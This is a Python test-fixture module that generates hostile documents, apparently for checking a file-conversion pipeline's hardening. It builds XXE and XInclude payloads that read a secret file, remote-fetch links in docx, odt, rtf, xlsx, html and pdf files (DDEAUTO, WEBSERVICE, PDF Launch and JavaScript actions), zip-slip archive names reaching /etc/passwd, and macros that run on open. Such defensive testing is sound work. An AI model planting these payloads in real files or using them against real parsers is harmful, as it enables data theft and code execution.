"""Reports that try something, by the names that they have in a folder: each function plants one kind of attack."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from pathlib import Path

from tests.hostile.packages import (
    SENTENCE,
    body,
    docx_parts,
    fodt,
    ods_parts,
    odt_parts,
    paragraph,
    relationships,
    xhtml,
    xlsx_parts,
    xml,
    zipped,
)

Planted = dict[str, bytes]

_INSIDE = {  # where in a part the text stands that an entity or an inclusion would come to
    "word/document.xml": "</w:t>",
    "word/styles.xml": "</w:styles>",
    "word/numbering.xml": "</w:numbering>",
    "word/settings.xml": "</w:settings>",
    "word/footnotes.xml": "</w:t>",
    "word/header.xml": "</w:t>",
    "word/_rels/document.xml.rels": "</Relationships>",
    "[Content_Types].xml": "</Types>",
    "custom.xml": "</custom>",
    "xl/workbook.xml": "</workbook>",
    "xl/sheet1.xml": "</worksheet>",
    "xl/sharedStrings.xml": "</t>",
    "xl/styles.xml": "</styleSheet>",
    "content.xml": "</text:p>",
    "styles.xml": "</office:document-styles>",
    "META-INF/manifest.xml": "</m:manifest>",
}


def doctypes(secret: Path, url: str) -> dict[str, tuple[str, str]]:
    """Return by name the ways to have a parser of XML read `secret` or ask `url`: a DOCTYPE, and what stands inside."""
    file = secret.as_uri()
    included = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/>'
    return {
        "general": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]>', "&x;"),
        "general-net": (f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/entity.txt">]>', "&x;"),
        "parameter": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/parameter.dtd"> %p;]>', "&x;"),
        "subset": (f'<!DOCTYPE r SYSTEM "{url}/subset.dtd">', "&x;"),
        "xinclude": ("", included),
    }


def with_entity(part: str, source: str, doctype: str, inside: str) -> str:
    """Return the XML of a part with a DOCTYPE at its head and `inside` where its text stands."""
    head, _, root = source.partition("\n")
    at = _INSIDE[part]
    assert at in root
    return f"{head}\n{doctype}{root.replace(at, inside + at, 1)}"


def entities(secret: Path, url: str) -> Planted:
    """Plant entities from outside in every part of every format that is XML."""
    return dict(_entities(secret, url))


def _entities(secret: Path, url: str) -> Iterator[tuple[str, bytes]]:
    packages = {"docx": docx_parts(), "xlsx": xlsx_parts(), "ods": ods_parts(), "odt": odt_parts()}
    for way, (doctype, inside) in doctypes(secret, url).items():
        for suffix, parts in packages.items():
            for part in parts.keys() & _INSIDE:
                if suffix != "odt" or (part, way) in (("content.xml", "general"), ("styles.xml", "parameter")):
                    changed = {**parts, part: with_entity(part, parts[part], doctype, inside)}
                    yield f"xxe-{way}-{part.strip('[]').replace('/', '_')}.{suffix}", zipped(changed)
        yield f"xxe-{way}.html", xhtml(f"<p>{inside}</p>", doctype.replace("DOCTYPE r", "DOCTYPE html"))
        yield f"xxe-{way}.xhtml", xhtml(f"<p>{inside}</p>", doctype.replace("DOCTYPE r", "DOCTYPE html"))
        yield f"xxe-{way}-xml.txt", xml(f"<r>{SENTENCE}{inside}</r>", doctype).encode()
        yield f"xxe-{way}-svg.html", xml(f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>', doctype).encode()
        if way in ("general", "xinclude"):
            yield f"xxe-{way}.fodt", fodt(inside, doctype=doctype)


def _field(instruction: str) -> str:
    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    told = f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
    return f"<w:p>{mark('begin')}{told}{mark('separate')}<w:r><w:t>cũ</w:t></w:r>{mark('end')}</w:p>"


def links(secret: Path, url: str) -> Planted:
    """Plant what has an office program fetch `url`, or take in the text of `secret`, when a file is opened."""
    share = "\\\\127.0.0.1\\share\\"
    return {
        "link.docx": _linked_docx(url + "/", secret),
        "link-unc.docx": _linked_docx(share, secret),
        "link-file.docx": _linked_docx(secret.parent.as_uri() + "/", secret),
        "link.odt": zipped({**odt_parts(_linked_odf(secret, *_places(url))), "meta.xml": _meta(url)}),
        "link.fodt": fodt(_linked_odf(secret, *_places(url))),
        "link.rtf": _linked_rtf(
            url,
            *(f'{name} "{url}/{name}.png" \\\\d' for name in ("INCLUDETEXT", "INCLUDEPICTURE", "IMPORT")),
            f'INCLUDETEXT "{secret}"',
            f'LINK Word.Document.8 "{secret}" "" \\\\a',
        ),
        "link-picture.rtf": _linked_rtf(url, f'INCLUDEPICTURE "{secret}"'),
        "link.xlsx": _linked_xlsx(url),
        "link.html": _linked_html(url),
        "link.mht": b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n"
        + f"Content-Location: {url}/page.html\r\n\r\n".encode()
        + _linked_html(url),
        "link.pdf": pdf(
            f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI ({url}/pdf-open) >> "
            f"/AA << /WC << /S /Launch /F ({secret}) >> >> "
            f"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('{url}/pdf-js'\\);) "
            ">>] >> >> >>",
            f"/AA << /O << /S /SubmitForm /F << /FS /URL /F ({url}/pdf-form) >> /Fields [] >> >> "
            f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            f"/A << /S /GoToR /F ({url}/pdf-far) /D [0 /Fit] >> >>]",
        ),
    }


def _linked_docx(to: str, *secrets: Path) -> bytes:
    parts = docx_parts()
    image = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
        '<pic:blipFill><a:blip r:link="image"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
        "</w:drawing></w:r></w:p>"
    )
    fields = [f'INCLUDETEXT "{to}text.txt"', f'INCLUDEPICTURE "{to}p.png" \\d']
    for secret in secrets:
        fields += [f'INCLUDETEXT "{secret}"', f'LINK Word.Document.8 "{to}l.docx" \\a', f'DDEAUTO soffice "{secret}" a']
    told = "".join(map(_field, fields))
    inside = f'{paragraph(SENTENCE)}{image}{told}<w:subDoc r:id="sub"/><w:altChunk r:id="chunk"/>'
    kinds = (("image", "image"), ("sub", "subDocument"), ("chunk", "aFChunk"), ("frame", "frame"), ("a", "hyperlink"))
    outside = tuple((name, kind, f"{to}{name}.docx") for name, kind in kinds)
    inner = tuple((kind, kind, f"{kind}.xml") for kind in ("styles", "settings", "header"))
    settings = '<w:attachedTemplate r:id="template"/>'
    return zipped(
        {
            **parts,
            "word/document.xml": xml(body(inside)),
            "word/_rels/document.xml.rels": relationships(*inner, *outside, ("o", "oleObject", f"{to}ole.bin")),
            "word/settings.xml": parts["word/settings.xml"].replace("</w:settings>", f"{settings}</w:settings>"),
            "word/_rels/settings.xml.rels": relationships(("template", "attachedTemplate", f"{to}template.dotx")),
        }
    )


def traps(secret: Path, url: str) -> Planted:
    """Plant those links alone that LibreOffice follows, if it is let, and doesn't wait for."""
    return {"trap.odt": zipped(odt_parts(_linked_odf(secret, url))), "trap.docx": _linked_docx(url + "/")}


def _places(url: str) -> tuple[str, ...]:
    return (
        url,
        url.replace("http:", "ftp:"),
        f"vnd.sun.star.webdav{url[4:]}",
        "file://127.0.0.1/share",
        "smb://127.0.0.1",
    )


def _linked_odf(secret: Path, url: str, *places: str) -> str:
    def link(to: str) -> str:
        return f'xlink:href="{to}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'

    def framed(name: str, inside: str) -> str:
        size = 'text:anchor-type="as-char" svg:width="2cm" svg:height="2cm"'
        return f'<text:p><draw:frame draw:name="{name}" {size}>{inside}</draw:frame></text:p>'

    def section(name: str, source: str) -> str:
        return f'<text:section text:name="{name}">{source}<text:p>cũ {name}</text:p></text:section>'

    file = secret.as_uri()
    every = tuple(enumerate((url, *places)))
    return "".join(
        (
            section("web", f'<text:section-source {link(f"{url}/s.html")} text:filter-name="HTML (StarWriter)"/>'),
            section("file", f'<text:section-source {link(file)} text:filter-name="Text"/>'),
            *(framed(f"i{at}", f"<draw:image {link(f'{place}/i{at}.png')}/>") for at, place in every),
            *(framed(f"o{at}", f"<draw:object {link(f'{place}/o{at}.odt')}/>") for at, place in every),
            framed("own", f"<draw:object {link(file)}/>"),
            framed("frame", f"<draw:floating-frame {link(f'{url}/frame.html')}/>"),
            framed("plugin", f"<draw:plugin {link(f'{url}/film.mp4')}/>"),
            f'<text:p><text:a xlink:href="{url}/a" xlink:type="simple">liên kết</text:a></text:p>',
        )
    )


def dde(secret: Path) -> Planted:
    """Plant a section that has its text from another program; LibreOffice, asked by itself, waits for it."""
    source = 'office:dde-application="soffice" office:dde-item="1" office:automatic-update="true"'
    section = f'<text:section text:name="d"><office:dde-source {source} office:dde-topic="{secret}"/></text:section>'
    return {"dde.odt": zipped(odt_parts(section))}


def _meta(url: str) -> str:
    template = f'<meta:template xlink:type="simple" xlink:href="{url}/t.ott"/>'
    reload = f'<meta:auto-reload xlink:href="{url}/reload.odt" meta:delay="PT0S"/>'
    return odt_parts()["meta.xml"].replace("<office:meta>", f"<office:meta>{template}{reload}")


def _linked_rtf(url: str, *fields: str) -> bytes:
    told = "".join(rf"{{\field{{\*\fldinst {field}}}{{\fldrslt cu}}}}\par " for field in fields)
    linked = r"{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 01050000}{\result cu}}\par "
    words = "".join(c if c.isascii() else rf"\u{ord(c)}?" for c in SENTENCE)
    return rf"{{\rtf1\ansi{{\*\template {url}/t.dot}}\pard {words}\par {told}{linked}}}".encode()


def _linked_xlsx(url: str) -> bytes:
    parts = xlsx_parts()
    book = parts["xl/workbook.xml"].replace(
        "</workbook>", '<externalReferences><externalReference r:id="out"/></externalReferences></workbook>'
    )
    inner = (("s1", "worksheet", "sheet1.xml"), ("s2", "sharedStrings", "sharedStrings.xml"))
    web = f'<connection id="1" name="c" type="4" refreshOnLoad="1"><webPr url="{url}/query"/></connection>'
    schema = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    formula = f'<c r="B1"><f>WEBSERVICE("{url}/f")</f><v>7</v></c></row>'
    return zipped(
        {
            **parts,
            "xl/workbook.xml": book,
            "xl/sheet1.xml": parts["xl/sheet1.xml"].replace("</row>", formula),
            "xl/connections.xml": xml(f"<connections {schema}>{web}</connections>"),
            "xl/externalLink1.xml": xml(f'<externalLink {schema}><externalBook r="out"/></externalLink>'),
            "xl/_rels/workbook.xml.rels": relationships(
                *inner, ("out", "externalLink", f"{url}/book.xlsx"), ("c", "connections", "connections.xml")
            ),
        }
    )


def _linked_html(url: str) -> bytes:
    head = (
        f'<base href="{url}/"/><meta http-equiv="refresh" content="0;url={url}/refresh"/>'
        f'<link rel="stylesheet" href="{url}/l.css"/><style>@import url("{url}/import.css");</style>'
        f'<script src="{url}/s.js"></script>'
    )
    inside = (
        f'<img src="{url}/i.png"/><iframe src="{url}/frame.html"></iframe><object data="{url}/o.html"></object>'
        f'<embed src="{url}/e"/><p style="background:url({url}/b.png)">nền</p>'
        f'<form action="{url}/form"><p>biểu</p></form>'
    )
    return xhtml(inside, head=head)


def pdf(catalog: str, page: str, inside: str = "BT /F1 12 Tf 72 700 Td (12 lop tap huan) Tj ET") -> bytes:
    """Return a PDF of one page, with what its catalog and its page say beside what they must."""
    font = "<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    return objects(
        catalog,
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources {font} /Contents 4 0 R {page} >>",
        f"<< /Length {len(inside)} >> stream\n{inside}\nendstream",
    )


def objects(*told: str) -> bytes:
    """Return a PDF of these objects, numbered from 1, the first of which is its catalog."""
    made, places = b"%PDF-1.7\n", []
    for number, one in enumerate(told, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n{one}\nendobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = f"xref\n0 {len(told) + 1}\n0000000000 65535 f \n{table}trailer\n<< /Size {len(told) + 1} /Root 1 0 R >>\n"
    return made + f"{end}startxref\n{len(made)}\n%%EOF\n".encode()


def slips(outside: Path) -> Planted:
    """Plant members of archives whose names lead out of a folder, or are none."""
    names = ("../../thoat.txt", f"{outside}/thoat.txt", "C:\\thoat.txt", "..\\..\\thoat.txt", "word/../../../thoat.txt")
    members: list[tuple[str | zipfile.ZipInfo, str]] = [(name, "thoát") for name in names]
    link = zipfile.ZipInfo("lien-ket")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    members += [(link, str(outside)), ("lien-ket/thoat.txt", "thoát"), ("dong\nmoi.txt", "thoát"), ("x/", "")]
    made: Planted = {}
    for suffix, parts in (("docx", docx_parts()), ("xlsx", xlsx_parts()), ("odt", odt_parts()), ("ods", ods_parts())):
        made[f"slip.{suffix}"] = zipped([*parts.items(), *members])
        twice = zipped([*parts.items(), *((name, content) for name, content in parts.items() if name != "mimetype")])
        made[f"slip-twice.{suffix}"] = twice
        made[f"slip-nul.{suffix}"] = zipped([*parts.items(), ("aXXXb.txt", "thoát")]).replace(
            b"aXXXb", b"a\x00\x00\x00b"
        )
    far = relationships(("f", "footnotes", "../../../../../../etc/passwd"), ("s", "styles", f"{outside}/styles.xml"))
    made["slip-target.docx"] = zipped({**docx_parts(), "word/_rels/document.xml.rels": far})
    return made


def macros(target: Path) -> Planted:
    """Plant macros that write a file in the folder `target` when the document is opened."""
    office = "http://openoffice.org/2000"
    module = (
        f'<script:module xmlns:script="{office}/script" script:name="M" script:language="StarBasic">Sub Main\n'
        f'Open "{target}/basic.txt" For Output As #1\nPrint #1, "x"\nClose #1\nEnd Sub\n</script:module>'
    )
    library = 'xmlns:library="http://openoffice.org/2000/library" library:name="Standard"'
    listed = (
        f'<library:library {library} library:readonly="false"><library:element library:name="M"/></library:library>'
    )
    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    known = '<library:library library:name="Standard" library:link="false"/>'
    libraries = f"<library:libraries {library.split()[0]} {xlink}>{known}</library:libraries>"
    dtd = '<!DOCTYPE {0} PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "{1}.dtd">'
    more = {
        "Basic/Standard/M.xml": xml(module, dtd.format("script:module", "module")),
        "Basic/Standard/script-lb.xml": xml(listed, dtd.format("library:library", "library")),
        "Basic/script-lc.xml": xml(libraries, dtd.format("library:libraries", "libraries")),
        "Scripts/python/m.py": f'def main(*given):\n    open("{target}/python.txt", "w").write("x")\n',
    }
    names = 'xmlns:ooo="http://openoffice.org/2004/office" xmlns:dom="http://www.w3.org/2001/xml-events"'
    calls = {"dom:load": "Standard.M.Main?language=Basic", "office:load-finished": "m.py$main?language=Python"}
    told = "".join(
        f'<script:event-listener {names} script:language="ooo:script" script:event-name="{event}" '
        f'xlink:href="vnd.sun.star.script:{call}&amp;location=document" xlink:type="simple"/>'
        for event, call in calls.items()
    )
    listeners = f"<office:scripts><office:event-listeners>{told}</office:event-listeners></office:scripts>"
    return {"macro.odt": zipped({**odt_parts(before=listeners, more=more), **more})}
